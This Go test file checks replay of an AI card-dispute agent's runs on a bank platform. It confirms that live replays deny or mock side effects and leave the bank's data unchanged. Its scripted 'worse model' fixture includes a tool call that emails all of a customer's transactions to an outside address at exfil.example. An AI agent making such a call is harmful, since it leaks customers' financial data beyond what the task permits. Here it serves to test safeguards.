package platform_test

import (
	"context"
	"encoding/json"
	"github.com/agentplane/agentplane/runs"
	"path/filepath"
	"testing"

	"github.com/agentplane/agentplane/catalog"
	"github.com/agentplane/agentplane/examples/carddispute/bank"
	"github.com/agentplane/agentplane/internal/platform"
	"github.com/agentplane/agentplane/store"
	"github.com/agentplane/agentplane/trace"
)

// altTurns is a "fixed" model that, from step 4 on, does worse: refunds a
// different amount, emails an outside address, and reads transactions.
const altTurns = `
turns:
  - text: unused
  - text: unused
  - text: unused
  - text: "refund a different amount"
    tool_calls: [{name: issue_refund, args: {customer_id: c_88213, transaction_id: txn_1002, amount_inr: 12000}}]
  - text: "email the auditors"
    tool_calls: [{name: send_email, args: {to: audit-team@exfil.example, subject: Transactions, body: "all of them"}}]
  - text: "look again"
    tool_calls: [{name: get_card_transactions, args: {customer_id: c_88213}}]
  - text: "done differently"
`

const replayModels = `
providers:
  scripted: {type: scripted, script: turns.yaml}
  alt: {type: scripted, script: alt.yaml}
aliases:
  - {name: reasoning-standard, provider: scripted, model_id: scripted-standard, price: {currency: USD, input_per_mtok: 2000000, output_per_mtok: 10000000, cache_write_per_mtok: 2500000, cache_read_per_mtok: 200000}}
  - {name: reasoning-alt, provider: alt, model_id: scripted-alt, price: {currency: USD, input_per_mtok: 2000000, output_per_mtok: 10000000, cache_write_per_mtok: 0, cache_read_per_mtok: 0}}
rates: {USD_INR: 88.0}
`

func openDemo(t *testing.T) *platform.Platform {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"alt.yaml": altTurns, "models.yaml": replayModels,
		"turns.yaml": "example:turns.yaml", "tools.yaml": "example:tools.yaml", "agent.yaml": "example:agent.yaml"})
	p, err := platform.Open(ctx, platform.Options{Tools: []catalog.Registrar{openBank(t, filepath.Join(dir, "data"))}, DataDir: filepath.Join(dir, "data"), ModelsFile: filepath.Join(dir, "models.yaml"),
		Directory: platform.StaticDirectory{"example-bank": {"meera": {"card-ops-supervisors", "card-ops-agents"}}}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	provisionCardDispute(t, p, "example-bank", map[string][]string{"priya": nil, "meera": {"card-ops-supervisors", "card-ops-agents"}})
	applyExample(t, p, dir, "agent.yaml", "tools.yaml")
	return p
}

// runToEnd executes a run, approving every approval it waits for.
func runToEnd(t *testing.T, p *platform.Platform, id string) *store.Run {
	t.Helper()
	ctx := context.Background()
	for i := 0; i < 10; i++ {
		r, err := p.Embedded.Execute(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		if r.Status != store.StatusWaiting {
			return r
		}
		pend, _ := p.Runs.PendingApprovals(ctx, r.Tenant)
		for _, a := range pend {
			if err := p.Runs.Decide(ctx, runs.DecideRequest{ApprovalID: a.Request.ApprovalID, Decider: "meera", Decision: "approve"}); err != nil {
				t.Fatal(err)
			}
		}
	}
	t.Fatal("run never ended")
	return nil
}

func demoRun(t *testing.T, p *platform.Platform) *store.Run {
	t.Helper()
	r, err := p.Runs.Start(context.Background(), runs.StartRequest{Agent: "card-dispute-assistant@1",
		Task: "Ticket T-40127: duplicate airline charge.", Tenant: "example-bank", User: "priya"})
	if err != nil {
		t.Fatal(err)
	}
	if got := runToEnd(t, p, r.ID); got.Status != store.StatusCompleted {
		t.Fatalf("original run: %s", got.Status)
	}
	return r
}

// normal is the part of an event a recorded replay must reproduce exactly.
func normal(t *testing.T, evs []store.Event) []string {
	t.Helper()
	var out []string
	for _, ev := range evs {
		var s string
		switch ev.Type {
		case trace.EvSignal, trace.EvApprovalReq, trace.EvApprovalDec:
			continue // the replay's instructions; approvals are not asked again
		case trace.EvModelCall:
			var m trace.ModelCall
			json.Unmarshal(ev.Payload, &m)
			r, _ := json.Marshal(m.Response)
			s = m.PromptHash + " " + string(r)
		case trace.EvToolAttempt:
			var a trace.ToolAttempt
			json.Unmarshal(ev.Payload, &a)
			s = a.Tool + " " + a.ArgsHash
		case trace.EvToolResult:
			var r trace.ToolResult
			json.Unmarshal(ev.Payload, &r)
			s = r.Tool + " " + r.Status + " " + r.ResultHash
		case trace.EvRunCompleted, trace.EvRunFailed:
			s = string(ev.Payload)
		}
		out = append(out, ev.Type+"@"+string(rune('0'+ev.Step))+" "+s)
	}
	return out
}

func TestRecordedReplayFromEveryStepReproducesTheRun(t *testing.T) {
	p := openDemo(t)
	ctx := context.Background()
	orig := demoRun(t, p)
	before, _ := bankOf(p).Counters(ctx)
	origEvs, _ := p.Store.Events(ctx, orig.ID, 0, 0)
	want := normal(t, origEvs)
	got0, _ := p.Store.GetRun(ctx, orig.ID)
	for step := 1; step <= got0.Steps+1; step++ {
		r, err := p.Runs.Replay(ctx, runs.ReplayRequest{Of: orig.ID, FromStep: step, Mode: trace.ReplayRecorded})
		if err != nil {
			t.Fatal(err)
		}
		if got := runToEnd(t, p, r.ID); got.Status != store.StatusCompleted || got.CostMicros != 0 {
			t.Fatalf("from step %d: status %s cost %d", step, got.Status, got.CostMicros)
		}
		evs, _ := p.Store.Events(ctx, r.ID, 0, 0)
		got := normal(t, evs)
		if len(got) != len(want) {
			t.Fatalf("from step %d: %d events, want %d", step, len(got), len(want))
		}
		for i := range got {
			if got[i] != want[i] {
				t.Fatalf("from step %d: event %d differs:\n got %s\nwant %s", step, i, got[i], want[i])
			}
		}
		if v, err := p.Engine.Verify(ctx, r.ID); err != nil || v.Events != len(evs) {
			t.Fatalf("from step %d: verify %d/%d %v", step, v.Events, len(evs), err)
		}
	}
	after, _ := bankOf(p).Counters(ctx)
	if after != before {
		t.Fatalf("replays changed the bank: %+v -> %+v", before, after)
	}
}

func TestLiveReplayEnforcesSideEffects(t *testing.T) {
	p := openDemo(t)
	ctx := context.Background()
	orig := demoRun(t, p)
	before, _ := bankOf(p).Counters(ctx)
	for _, tc := range []struct {
		name      string
		mocks     map[string]json.RawMessage
		wantEmail string // how the outside email is answered
	}{
		{"no mock: denied", nil, trace.ReplayedDenied},
		{"mock declared", map[string]json.RawMessage{"send_email": json.RawMessage(`{"status":"sent (mock)"}`)}, trace.ReplayedMock},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := p.Runs.Replay(ctx, runs.ReplayRequest{Of: orig.ID, FromStep: 4, Mode: trace.ReplayLive, ModelAlias: "reasoning-alt", Mocks: tc.mocks})
			if err != nil {
				t.Fatal(err)
			}
			got := runToEnd(t, p, r.ID)
			if got.Status != store.StatusCompleted {
				t.Fatalf("status %s", got.Status)
			}
			evs, _ := p.Store.Events(ctx, r.ID, 0, 0)
			how := map[string]string{}
			var div []trace.Diverged
			for _, ev := range evs {
				switch ev.Type {
				case trace.EvToolResult:
					var res trace.ToolResult
					json.Unmarshal(ev.Payload, &res)
					how[res.Tool+"@"+string(rune('0'+ev.Step))] = res.Replayed
				case trace.EvDiverged:
					var d trace.Diverged
					json.Unmarshal(ev.Payload, &d)
					div = append(div, d)
				}
			}
			wantHow := map[string]string{
				"get_ticket@1": trace.ReplayedRecorded, "get_customer_profile@2": trace.ReplayedRecorded,
				"get_card_transactions@2": trace.ReplayedRecorded, "raise_dispute@3": trace.ReplayedRecorded,
				"issue_refund@4":          trace.ReplayedDenied, // external, differs from the recording, no mock
				"send_email@5":            tc.wantEmail,
				"get_card_transactions@6": trace.ReplayedLive, // no side effects: runs live
			}
			for k, v := range wantHow {
				if how[k] != v {
					t.Errorf("%s answered %q, want %q (all: %v)", k, how[k], v, how)
				}
			}
			if len(div) != 1 || div[0].Step != 4 {
				t.Fatalf("divergence = %+v, want one at step 4", div)
			}
		})
	}
	after, _ := bankOf(p).Counters(ctx)
	if after.RefundsIssued != before.RefundsIssued || after.EmailsSent != before.EmailsSent || after.DisputesRaised != before.DisputesRaised {
		t.Fatalf("a replay reached the bank: %+v -> %+v", before, after)
	}
	var _ = bank.FormatRupees
}
